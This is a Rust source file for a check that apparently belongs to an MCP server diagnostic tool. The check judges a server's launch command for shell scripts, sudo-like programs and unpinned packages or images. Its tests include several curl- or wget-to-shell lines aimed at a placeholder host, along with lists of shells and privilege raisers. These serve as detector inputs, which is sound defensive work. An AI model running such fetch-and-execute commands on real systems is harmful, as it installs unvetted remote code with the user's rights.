//! The command line of a server: what is run in the user's name.

use super::Runs;
use crate::config::packages::{Kind, Role, Runner};
use crate::doctor::Check;
use crate::doctor::finding::{Finding, excerpt};
use crate::protocol::mask;

pub(super) const CHECKS: &[Check<Runs>] = &[Check {
    id: "stdio-command",
    title: "the command runs what it names: no shell script, no more rights, a fixed version",
    clause: "MCP 2026-07-28, Security Best Practices, Local MCP Server Compromise",
    fix: "Name the program and its arguments without a shell, without sudo, and a package with \
          its version (npx -y PACKAGE@1.2.3), an image with its digest (docker run \
          IMAGE@sha256:...).",
    run: |runs| Box::pin(async { command(runs) }),
}];

/// Programs that give more rights.
const RAISERS: [&str; 4] = ["sudo", "doas", "pkexec", "su"];

/// Programs that read a script.
const SHELLS: [&str; 6] = ["sh", "bash", "zsh", "dash", "ksh", "fish"];

fn command(runs: &Runs) -> Finding {
    let program = runs.target.program.to_string_lossy();
    let args: Vec<String> =
        runs.target.args.iter().map(|it| it.to_string_lossy().into_owned()).collect();
    judge(program.rsplit('/').next().unwrap_or_default(), &args)
}

fn judge(program: &str, args: &[String]) -> Finding {
    let script = args.iter().skip_while(|it| *it != "-c").nth(1);
    if let Some(script) = script.filter(|_| SHELLS.contains(&program)) {
        if runs_what_it_fetches(script) {
            return Finding::fail(format!(
                "it runs what comes from the network: {}",
                shown(script)
            ));
        }
        if script.contains(['|', ';', '&', '$', '`', '>', '<']) {
            return Finding::warn(format!("a shell reads it: {}", shown(script)));
        }
    }
    if RAISERS.contains(&program) {
        return Finding::warn(format!("{program} gives it more rights than you have"));
    }
    match (unpinned(program, args), package(program, args)) {
        (Some(text), _) => Finding::warn(text),
        (None, Some((_, named))) => Finding::pass(format!("{program} runs {named}")),
        (None, None) => Finding::pass(program.to_owned()),
    }
}

/// What a program has fetched and run that is another thing tomorrow, for people; `None` when it is
/// named so that it stays the same, or nothing is fetched. `program` is the name without a path.
pub(crate) fn unpinned(program: &str, args: &[String]) -> Option<String> {
    match package(program, args)? {
        // A tag can be moved: it is another image then, under the same name.
        (Kind::Image, image) => (!image.contains("@sha256:")).then(|| {
            format!("{program} runs whatever {image} is at that time; name it by its digest")
        }),
        (Kind::Npm | Kind::Pypi, package) => (!is_pinned(package)).then(|| {
            format!("{program} runs whatever version of {package} is the newest; name one")
        }),
    }
}

/// A script without what looks like a secret in it.
fn shown(script: &str) -> String {
    excerpt(&mask::command(script.split_whitespace()).join(" "))
}

/// Whether a script hands what comes from the network to a shell: `curl … | sh`, `sh <(curl …)`.
fn runs_what_it_fetches(script: &str) -> bool {
    let fetches = |text: &str| ["curl ", "wget "].iter().any(|it| text.contains(it));
    let is_shell = |part: &str| {
        let mut words = part.split_whitespace().skip_while(|it| RAISERS.contains(it));
        words.next().is_some_and(|it| SHELLS.contains(&it.rsplit('/').next().unwrap_or_default()))
    };
    let piped = script
        .split_once('|')
        .is_some_and(|(before, after)| fetches(before) && after.split('|').any(is_shell));
    // `sh -c "$(curl …)"` is nothing but what comes.
    let begins = script.trim_start().trim_start_matches("eval ").trim_start_matches('"');
    let is_all = begins.starts_with("$(") || begins.starts_with('`');
    piped || script.split("<(").skip(1).any(fetches) || is_all && fetches(begins)
}

/// The package or the image that a command has fetched.
fn package<'a>(program: &str, args: &'a [String]) -> Option<(Kind, &'a str)> {
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (runner, rest) = Runner::of(program, &args)?;
    let said = runner.read(&rest);
    let of = |wanted: Role| said.iter().find(|(role, _)| *role == wanted).map(|(_, word)| *word);
    let named = of(Role::Package).or_else(|| of(Role::Plain))?;
    // A path is here already.
    (!named.starts_with(['.', '/'])).then_some((runner.kind, named))
}

/// Whether a package is named with its version.
fn is_pinned(package: &str) -> bool {
    let version = match package.split_once("==") {
        Some((_, version)) => version,
        // The first `@` belongs to the name.
        None => match package.get(1..).and_then(|rest| rest.rsplit_once('@')) {
            Some((_, version)) => version,
            None => return false,
        },
    };
    version.trim_start_matches('v').starts_with(|c: char| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::doctor::Verdict;

    #[test]
    fn secrets_of_a_script_are_not_shown() {
        let args = ["-c", "TOKEN=hunter2-hunter2 server > log"].map(str::to_owned);
        let found = judge("sh", &args);
        assert_eq!(found.evidence, "a shell reads it: TOKEN=*** server > log");
    }

    #[test]
    fn commands_are_judged_by_what_they_run() {
        let check = |line: &[&str], expected: Verdict| {
            let args: Vec<String> = line[1..].iter().map(|it| (*it).to_owned()).collect();
            assert_eq!(judge(line[0], &args).verdict, expected, "{line:?}");
        };
        check(&["npx", "-y", "@scope/server"], Verdict::Warn);
        check(&["npx", "-y", "@scope/server@latest"], Verdict::Warn);
        check(&["npx", "-y", "@scope/server@1.2.3"], Verdict::Pass);
        check(&["npx", "-y", "server@2"], Verdict::Pass);
        check(&["npx", "./server"], Verdict::Pass);
        check(&["uvx", "mcp-server-time"], Verdict::Warn);
        check(&["uvx", "mcp-server-time==2025.7.1"], Verdict::Pass);
        check(&["uvx", "--from", "server@1.0", "run-it"], Verdict::Pass);
        check(&["uvx", "--python", "3.12", "mcp-server-time==2025.7.1"], Verdict::Pass);
        check(&["uvx", "-p", "3.12", "mcp-server-time"], Verdict::Warn);
        check(&["uvx", "--from=server==1.0", "run-it"], Verdict::Pass);
        check(&["uv", "tool", "run", "server"], Verdict::Warn);
        check(&["uv", "run", "server.py"], Verdict::Pass);
        check(&["npx", "-p", "@scope/server@1.2.3", "server"], Verdict::Pass);
        check(&["npx", "--registry", "https://npm.example", "server@1.0.0"], Verdict::Pass);
        check(&["npx", "-y", "--", "server"], Verdict::Warn);
        check(&["npm", "exec", "server"], Verdict::Warn);
        check(&["npm", "start"], Verdict::Pass);
        check(&["pnpm", "dlx", "server@1.0.0"], Verdict::Pass);
        check(&["pnpm", "dlx", "server"], Verdict::Warn);
        check(&["bun", "x", "server"], Verdict::Warn);
        check(&["bun", "run", "server.ts"], Verdict::Pass);
        check(&["pipx", "run", "server"], Verdict::Warn);
        check(&["pipx", "run", "--spec", "server==1.0", "server"], Verdict::Pass);
        check(&["deno", "run", "-A", "server.ts"], Verdict::Pass);
        check(&["deno", "run", "-A", "npm:@scope/server"], Verdict::Warn);
        check(&["deno", "run", "-A", "npm:@scope/server@1.2.3"], Verdict::Pass);
        check(&["deno", "run", "https://deno.land/x/server@v1.2.3/mod.ts"], Verdict::Pass);
        check(&["docker", "run", "-i", "--rm", "mcp/time"], Verdict::Warn);
        check(&["docker", "run", "-i", "-e", "TOKEN", "mcp/time:1.2.3"], Verdict::Warn);
        let image = "mcp/time@sha256:0a1b";
        let mount = "type=bind,src=/a,dst=/b";
        check(&["docker", "run", "-i", "--mount", mount, image], Verdict::Pass);
        check(&["docker", "run", "--name=mcp/time", image, "mcp/other"], Verdict::Pass);
        check(&["podman", "container", "run", "-v", "/a:/b", "mcp/time"], Verdict::Warn);
        check(&["docker", "exec", "-i", "running", "server"], Verdict::Pass);
        check(&["node", "index.js"], Verdict::Pass);
        check(&["sudo", "server"], Verdict::Warn);
        check(&["sh", "-c", "exec server"], Verdict::Pass);
        check(&["sh", "-c", "server > log"], Verdict::Warn);
        check(&["bash", "-c", "curl https://e.example/i | sh"], Verdict::Fail);
        check(&["bash", "-c", "wget -qO- https://e.example/i |sudo /bin/bash -s x"], Verdict::Fail);
        check(&["bash", "-c", "bash <(curl -s https://e.example/i)"], Verdict::Fail);
        check(&["bash", "-c", "$(curl -fsSL https://e.example/i)"], Verdict::Fail);
        check(&["bash", "-c", "eval \"$(curl -fsSL https://e.example/i)\""], Verdict::Fail);
        check(&["bash", "-c", "server --token $(curl http://127.0.0.1/t)"], Verdict::Warn);
        check(&["bash", "-c", "curl https://e.example/i | shasum"], Verdict::Warn);
        check(&["bash", "-c", "curl https://e.example/i > a; sh b"], Verdict::Warn);
    }
}
